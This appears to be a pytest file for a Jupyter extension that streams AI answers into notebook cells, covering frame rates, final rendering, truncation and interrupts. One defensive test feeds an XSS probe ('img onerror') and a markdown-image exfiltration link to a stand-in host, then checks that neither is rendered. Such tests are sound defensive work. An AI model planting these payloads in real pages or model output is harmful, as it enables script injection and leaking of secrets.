"""An answer in the cell, from the first frame to the one output that is saved."""

from __future__ import annotations

import time
from typing import TYPE_CHECKING

from mibyan_jupyter.output.cell_output import LIVE
from mibyan_jupyter.text import LONGEST_SHOWN
from tests.fake_mibyan import USAGE, Reply

if TYPE_CHECKING:
    from tests.fake_mibyan import FakeMibyan
    from tests.kernel.notebook_kernel import CellResult, NotebookKernel

ONE_SHOT = "final_bundle(get_session().history[-1])"
IMPORTS = "from mibyan_jupyter.output.cell_view import final_bundle"
PARAGRAPH = "The **median** of a skewed sample lies below its mean, and `x` says $x_1$ why. " * 8


def mimes(cell: CellResult) -> set[str]:
    """Every mime type that the cell has ever shown."""
    shown = cell.of_type("display_data", "update_display_data", "execute_result")
    return {mime for message in shown for mime in message["content"]["data"]}


def test_first_words_show_while_the_server_still_holds_the_rest(
    kernel: NotebookKernel, fake: FakeMibyan
) -> None:
    """The first delta stands in the cell, formatted, long before the answer's end."""
    fake.enqueue(Reply.stream(["The **first** words", " and the rest."], hold_after=1))
    cell = kernel.start("%%mibyan\nWhy?")
    kernel.wait_until(lambda: "<strong>first</strong>" in cell.html, "the first words")
    assert fake.requests[0].finished_at is None
    assert "the rest" not in cell.html
    fake.release()
    kernel.finish(cell)
    assert cell.status == "ok"
    assert "and the rest." in cell.html


def test_a_fast_answer_costs_ten_frames_a_second(kernel: NotebookKernel, fake: FakeMibyan) -> None:
    """500 deltas in 1.25 seconds become some fourteen messages, the first of them at once."""
    deltas = [f"word{n} " for n in range(500)]
    fake.enqueue(Reply.stream(deltas, tokens_per_second=400))
    cell = kernel.ok("%%mibyan\nCount")
    seconds = cell.frames[-1] - cell.frames[0]
    assert 5 <= len(cell.frames) <= 10 * seconds + 3
    assert cell.frames[0] - fake.requests[0].arrived_at < 1
    assert "word499" in cell.plain


def test_a_long_answer_never_has_more_than_twenty_outputs(
    kernel: NotebookKernel, fake: FakeMibyan
) -> None:
    """Pages close and merge while it streams, and become one output in the end."""
    kernel.ok(IMPORTS)
    fake.enqueue(Reply.stream([f"Part {n}. {PARAGRAPH}\n\n" for n in range(300)], pause=0.01))
    cell = kernel.ok("%%mibyan\nAt length")
    assert 5 < cell.most_outputs <= 20
    (output,) = cell.outputs
    assert output["data"] == kernel.value(ONE_SHOT)


def test_the_saved_output_is_the_one_shot_render(kernel: NotebookKernel, fake: FakeMibyan) -> None:
    """At the end there is one html + plain output, the same as rendering the whole text at once."""
    text = (
        "# Title\n\nSee [docs] and a note.[^1]\n\n| a | b |\n|---|---|\n| 1 | $2 |\n\n"
        "```python\nprint('hi')\n```\n\n- [x] done\n\n$$x^2$$\n\n[docs]: https://example.org\n"
        "[^1]: The note.\n"
    )
    fake.enqueue(Reply.stream(list(text), tokens_per_second=500, usage=USAGE))
    kernel.ok(IMPORTS)
    cell = kernel.ok("%%mibyan\nEverything")
    (output,) = cell.outputs
    assert output["output_type"] == "display_data"
    assert output["data"] == kernel.value(ONE_SHOT)
    assert output["data"]["text/plain"] == text
    whole = kernel.value(
        "__import__('mibyan_jupyter.rendering').rendering.render_markdown("
        "get_session().history[-1].answer.text, get_session().history[-1].id)"
    )
    assert whole in output["data"]["text/html"]
    assert "25 tokens" in output["data"]["text/html"]


def test_the_last_words_have_a_moment_to_be_painted(
    kernel: NotebookKernel, fake: FakeMibyan
) -> None:
    """Putting a long answer into one output keeps the page busy: the last frame stands before."""
    fake.enqueue(Reply.stream([f"{PARAGRAPH}\n\n" for _ in range(30)], tokens_per_second=60))
    cell = kernel.ok("%%mibyan\nTell me everything")
    assert cell.most_outputs > 1
    sent = [(each["msg_type"], each["header"]["date"].timestamp()) for each in cell.messages]
    clear = next(at for at, (kind, _) in enumerate(sent) if kind == "clear_output")
    assert sent[clear][1] - sent[clear - 1][1] >= 0.05


def test_no_output_is_ever_markdown(kernel: NotebookKernel, fake: FakeMibyan) -> None:
    """Front ends run what `text/markdown` holds, so neither a frame nor a command nor an Answer
    shows it."""
    attack = "<img src=x onerror=alert(1)> **bold** ![](https://example.org/?d=SECRET)"
    fake.enqueue(Reply.stream(list(attack), pause=0.005))
    asked = kernel.ok("%%mibyan -o answer\nAttack")
    shown = [asked, kernel.ok("answer"), kernel.ok("%mibyan last"), kernel.ok("%mibyan history")]
    for cell in shown:
        assert {"text/html"} <= mimes(cell) <= {"text/html", "text/plain", LIVE}
        for message in cell.of_type("display_data", "update_display_data", "execute_result"):
            assert "<img" not in message["content"]["data"].get("text/html", "")


def test_an_answer_without_streaming_shows_the_same(
    kernel: NotebookKernel, fake: FakeMibyan
) -> None:
    """`--no-stream` sends no `stream` field and shows the one output, without frames."""
    fake.enqueue(Reply.json("**Whole**"))
    cell = kernel.ok("%%mibyan --no-stream\nWhy?")
    assert "stream" not in fake.requests[0].json
    (output,) = cell.outputs
    assert "<strong>Whole</strong>" in output["data"]["text/html"]
    assert "text/markdown" not in mimes(cell)


def test_a_server_that_streams_or_not_against_the_request_is_understood(
    kernel: NotebookKernel, fake: FakeMibyan
) -> None:
    """A JSON answer to a streaming request is shown, and a stream where none was asked for."""
    fake.enqueue(Reply.json("plain JSON"), Reply.stream(["a", " stream"]))
    assert "plain JSON" in kernel.ok("%%mibyan\nOne").plain
    assert "a stream" in kernel.ok("%%mibyan --no-stream\nTwo").plain


def test_a_slow_server_is_said_to_be_waited_for(kernel: NotebookKernel, fake: FakeMibyan) -> None:
    """Without any text for a moment the cell says what it waits for; the answer replaces that."""
    fake.enqueue(Reply.stream(["Here."], hold_after=0))
    cell = kernel.start("%%mibyan\nSlow")
    kernel.wait_until(lambda: "Waiting for mibyan-4.1" in cell.html, "the placeholder")
    fake.release()
    kernel.finish(cell)
    (output,) = cell.outputs
    assert "Waiting" not in output["data"]["text/html"]


def test_a_cut_answer_is_marked(kernel: NotebookKernel, fake: FakeMibyan) -> None:
    """An answer that the length limit cut is kept, and never passed off as whole."""
    fake.enqueue(Reply.stream(["Half an ans"], finish_reason="length"))
    cell = kernel.ok("%%mibyan -o answer\nLong")
    assert "cut off: the model" in cell.html
    assert cell.plain.endswith("[cut off: the model's length limit]")
    assert kernel.value("[answer.status, answer.finish_reason]") == ["cut_off", "length"]


def test_an_endless_answer_costs_the_page_no_more_than_a_long_one(
    kernel: NotebookKernel, fake: FakeMibyan
) -> None:
    """The turn keeps all of its text; the cell shows the beginning, and says how much is left."""
    part = "A paragraph of some words.\n\n" * 400
    count = 6 * LONGEST_SHOWN // len(part)
    fake.enqueue(Reply.stream([part] * count))
    cell = kernel.ok("%%mibyan\nFor ever", timeout=60)
    length = count * len(part)
    assert kernel.value("len(session.history[-1].answer.text)") == length
    rest = f"{length - LONGEST_SHOWN:,} more characters are not shown here"
    assert rest in cell.html
    assert rest in cell.plain
    assert sum(len(str(message["content"])) for message in cell.messages) < 12 * LONGEST_SHOWN


def test_hostile_markdown_holds_neither_the_stream_nor_stop(
    kernel: NotebookKernel, fake: FakeMibyan
) -> None:
    """All of a costly answer is read while it is rendered, and the server is left at once."""
    part = "|-|\n" * 4_000
    fake.enqueue(Reply.stream([part] * 8, hold_after=8))
    cell = kernel.start("%%mibyan\nTables")
    fake.wait_for_holds(1)
    kernel.wait_until(lambda: bool(cell.frames), "a frame")
    pressed = time.monotonic()
    kernel.interrupt()
    left = fake.wait_for_disconnect()
    assert left.disconnected_at is not None
    assert left.disconnected_at - pressed < 2
    assert kernel.finish(cell).ename == "Stopped"
    assert kernel.value("len(session.history[-1].answer.text)") == 8 * len(part)
